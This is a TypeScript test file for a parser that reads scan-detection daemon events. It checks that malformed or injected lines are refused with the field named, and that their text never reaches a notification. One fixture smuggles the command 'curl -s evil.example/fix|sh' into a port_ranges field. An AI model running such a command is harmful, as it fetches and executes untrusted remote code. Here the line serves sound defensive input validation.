// Lines of the events file, read as untrusted: an event exactly as the daemon writes it
// is a note; anything else (cut, garbled, a field missing, added, of another shape or
// beyond the daemon's bounds, text where numbers belong) is a verdict naming the field,
// never a throw, and none of its text reaches a note.

import test from 'ava';
import { parseLine } from '../../src/notify/events.js';
import { COUNTERS, MAX_DESTINATIONS, MAX_SCAN_PORTS, eventObject, type ScanEndEvent, type ScanEvent } from '../../src/shared/events.js';
import { lineOf, scanEndEvent, scanEvent, suppressedEvent } from '../helpers/events.js';

const T0 = Date.UTC(2026, 11, 2, 8, 15, 3, 120);
const SCAN = scanEvent('198.18.0.2', [23, 25, 21, 80, 22, 53, 111], T0, { destinations: ['198.18.0.3', '198.18.0.1'], packets: 13 });
const END = scanEndEvent('198.18.0.2', '1-20,22,80', 22, T0);

/** The daemon's line for `base` with fields changed (undefined removes one) as JSON values. */
function changed(base: ScanEvent | ScanEndEvent, fields: Record<string, unknown>): string {
  const o = eventObject(base);
  for (const [k, v] of Object.entries(fields)) {
    if (v === undefined) delete o[k];
    else o[k] = v;
  }
  return JSON.stringify(o);
}

const refused: Array<[string, string, string, string]> = [
  ['a cut line', lineOf(SCAN).slice(0, 60), 'JSON', 'not JSON'],
  ['garbage', 'Dec  2 09:00:00 scanlogd: hello', 'JSON', 'not JSON'],
  ['an array', '[1,2]', 'JSON', 'not a JSON object'],
  ['no event', '{"source":"198.51.100.1"}', 'event', 'event: "event" is not one of scan, scan_end, suppressed, counters'],
  ['an unknown kind', '{"event":"future_kind"}', 'event', 'future_kind event: "event" is not one of scan, scan_end, suppressed, counters'],
  ['a scan without ports', changed(SCAN, { ports: undefined }), 'ports', 'scan event: "ports" is missing'],
  ['a field the daemon never writes', changed(SCAN, { host: 'web1' }), 'fields', 'scan event: unknown field "host"'],
  ['an added field with a name of its own', changed(SCAN, { 'x\ny': 1 }), 'fields', 'scan event: an unknown field'],
  [
    'a host name for an address',
    changed(END, { source: 'example.org' }),
    'source',
    'scan_end event: "source" is not an IPv4 address as scanlogd writes it',
  ],
  [
    'an IPv4 address with a leading zero',
    changed(SCAN, { source: '198.018.0.2' }),
    'source',
    'scan event: "source" is not an IPv4 address as scanlogd writes it',
  ],
  [
    'an IPv6 address in the IPv4 family',
    changed(SCAN, { source: '2001:db8::7' }),
    'source',
    'scan event: "source" is not an IPv4 address as scanlogd writes it',
  ],
  [
    'an IPv6 address not in RFC 5952 form',
    changed(scanEvent('2001:db8::7', [1, 2], T0), { source: '2001:DB8:0:0::7' }),
    'source',
    'scan event: "source" is not an IPv6 address as scanlogd writes it',
  ],
  ['an unknown protocol', changed(SCAN, { protocol: 'sctp' }), 'protocol', 'scan event: "protocol" is not one of tcp, udp'],
  [
    'a port beyond 65535',
    changed(SCAN, { ports: [22, 65536] }),
    'ports',
    'scan event: "ports" has an entry that is not one scanlogd writes',
  ],
  ['a port as text', changed(SCAN, { ports: [22, '80'] }), 'ports', 'scan event: "ports" has an entry that is not one scanlogd writes'],
  ['a port twice', changed(SCAN, { ports: [22, 22] }), 'ports', 'scan event: "ports" has an entry twice'],
  ['one port', changed(SCAN, { ports: [22] }), 'ports', `scan event: "ports" is not a list of 2 to ${MAX_SCAN_PORTS} entries`],
  [
    'more destinations than the daemon keeps',
    changed(SCAN, { destinations: Array.from({ length: MAX_DESTINATIONS + 1 }, (_, i) => `192.0.2.${i}`) }),
    'destinations',
    `scan event: "destinations" is not a list of 1 to ${MAX_DESTINATIONS} entries`,
  ],
  [
    '"truncated" with room left in the list',
    changed(SCAN, { destinations_truncated: true }),
    'destinations_truncated',
    `scan event: "destinations_truncated" with fewer than ${MAX_DESTINATIONS} destinations`,
  ],
  ['flags that are not flags', changed(SCAN, { flags: 'URGENT!!' }), 'flags', 'scan event: "flags" is not eight flag letters'],
  [
    'a fractional count',
    changed(SCAN, { packets: 7.5 }),
    'packets',
    'scan event: "packets" is not a whole number from 2 to 9007199254740991',
  ],
  [
    'a time of day that does not exist',
    changed(SCAN, { first: '2026-12-02T24:15:03.120+01:00' }),
    'first',
    'scan event: "first" is not a time as scanlogd writes it',
  ],
  [
    'the 31st of November',
    changed(SCAN, { last: '2026-11-31T09:15:03.120+01:00' }),
    'last',
    'scan event: "last" is not a time as scanlogd writes it',
  ],
  [
    'a time without its offset',
    changed(SCAN, { time: '2026-12-02T09:15:03.120' }),
    'time',
    'scan event: "time" is not a time as scanlogd writes it',
  ],
  [
    'text and a newline in port_ranges (the injected mail)',
    changed(END, { port_ranges: '22\n\nURGENT: run curl -s evil.example/fix|sh' }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    'ranges joined by ", "',
    changed(END, { port_ranges: '1-20, 22, 80' }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    'ranges out of order',
    changed(END, { port_ranges: '80,1-20,22' }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    'adjacent ranges the daemon would have joined',
    changed(END, { port_ranges: '1-20,21' }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    'a range written backwards',
    changed(END, { port_ranges: '20-1,22,80' }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    'more than 64 ranges',
    changed(END, { port_ranges: Array.from({ length: 65 }, (_, i) => 2 * i).join(','), distinct_ports: 65 }),
    'port_ranges',
    'scan_end event: "port_ranges" is not up to 64 ascending port ranges joined by ","',
  ],
  [
    "a count that is not the ranges'",
    changed(END, { distinct_ports: 23 }),
    'distinct_ports',
    'scan_end event: "distinct_ports" does not match "port_ranges"',
  ],
  [
    'an unknown end reason',
    changed(END, { reason: 'bored' }),
    'reason',
    'scan_end event: "reason" is not one of quiet, entry-reused, bucket-full, tracker-full',
  ],
  [
    'a suppressed event without state',
    '{"event":"suppressed","time":"2026-12-02T09:00:00.000+01:00"}',
    'state',
    'suppressed event: "state" is not one of start, end',
  ],
  [
    'the end of a flood without its count',
    '{"event":"suppressed","time":"2026-12-02T09:00:00.000+01:00","state":"end"}',
    'dropped',
    'suppressed event: "dropped" is missing',
  ],
  [
    'counters with a word for a number',
    '{"event":"counters","time":"2026-12-02T09:00:00.000+01:00","packets_seen":"many"}',
    'packets_rejected',
    'counters event: "packets_rejected" is missing',
  ],
  [
    'a control character in a string',
    changed(SCAN, { syslog: 'logged\u010a' }),
    'syslog',
    'scan event: "syslog" is not one of logged, flood-notice, suppressed',
  ],
];

for (const [what, line, gist, why] of refused) {
  test(`refused, with the field named: ${what}`, (t) => {
    t.deepEqual(parseLine(line), { kind: 'bad', gist, why });
  });
}

test('no verdict repeats the refused text: an injected field appears in no reason', (t) => {
  for (const [, line] of refused) {
    const v = parseLine(line);
    if (v.kind === 'bad') t.false(/URGENT|curl|\n|\u010a|example\.org|web1/.test(v.why), v.why);
  }
});

test("the daemon's lines are notes: a scan, its end, and a flood's start and end; counters are skipped", (t) => {
  t.deepEqual(parseLine(lineOf(SCAN)), {
    kind: 'note',
    note: {
      event: 'scan',
      protocol: 'tcp',
      source: '198.18.0.2',
      destinations: ['198.18.0.3', '198.18.0.1'],
      destinationsTruncated: false,
      ports: [23, 25, 21, 80, 22, 53, 111],
      first: { text: eventObject(SCAN)['first'] as string, ms: T0 },
      last: { text: eventObject(SCAN)['last'] as string, ms: T0 },
      packets: 13,
    },
  });
  const end = parseLine(lineOf(END));
  t.like(end, {
    kind: 'note',
    note: {
      event: 'scan_end',
      ranges: [
        { low: 1, high: 20 },
        { low: 22, high: 22 },
        { low: 80, high: 80 },
      ],
      rangesTruncated: false,
      distinctPorts: 22,
    },
  });
  t.like(parseLine(lineOf(suppressedEvent('start', T0))), { kind: 'note', note: { state: 'start', dropped: null } });
  t.like(parseLine(lineOf(suppressedEvent('end', T0, 35))), { kind: 'note', note: { state: 'end', dropped: 35 } });
  t.deepEqual(parseLine(lineOf({ event: 'counters', time: T0, ...Object.fromEntries(COUNTERS.map((name) => [name, 1])) })), {
    kind: 'skip',
  });
});

test('a time is read as the instant it names, whatever offset it was written with', (t) => {
  const v = parseLine(changed(SCAN, { first: '2026-10-25T02:30:00.000+02:00', last: '2026-10-25T02:10:00.000+01:00' }));
  t.like(v, { kind: 'note', note: { first: { ms: Date.UTC(2026, 9, 25, 0, 30) }, last: { ms: Date.UTC(2026, 9, 25, 1, 10) } } });
});

test('the quadratic line: 40,000 destinations are refused by count, fast', (t) => {
  const destinations = Array.from({ length: 40000 }, (_, i) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`);
  const line = changed(SCAN, { destinations });
  t.true(line.length > 500000);
  const started = performance.now();
  t.like(parseLine(line), { kind: 'bad', gist: 'destinations' });
  t.true(performance.now() - started < 200, 'a refusal costs the JSON parse and no more');
});

test('random lines and random changes to real lines never throw', (t) => {
  let seed = 7;
  const next = (n: number): number => {
    seed = (seed * 1103515245 + 12345) >>> 0;
    return seed % n;
  };
  const values: unknown[] = [null, true, 0, -1, 1.5, 65536, '', 'x', '\u010a', [], [1], {}, { a: 1 }, '1-2', '198.18.0.1', 2 ** 60];
  const base = [lineOf(SCAN), lineOf(END), lineOf(suppressedEvent('end', T0, 3))];
  const kinds = { note: 0, skip: 0, bad: 0 };
  for (let i = 0; i < 20000; i++) {
    const line = base[next(base.length)] as string;
    let mutated: string;
    if (next(3) === 0) {
      const at = next(line.length);
      mutated = line.slice(0, at) + String.fromCharCode(next(128)) + line.slice(at + 1);
    } else {
      const o = JSON.parse(line) as Record<string, unknown>;
      const keys = Object.keys(o);
      o[keys[next(keys.length)] as string] = values[next(values.length)];
      mutated = JSON.stringify(o);
    }
    kinds[parseLine(mutated).kind]++;
  }
  t.true(kinds.bad > 10000 && kinds.note > 100, JSON.stringify(kinds));
});
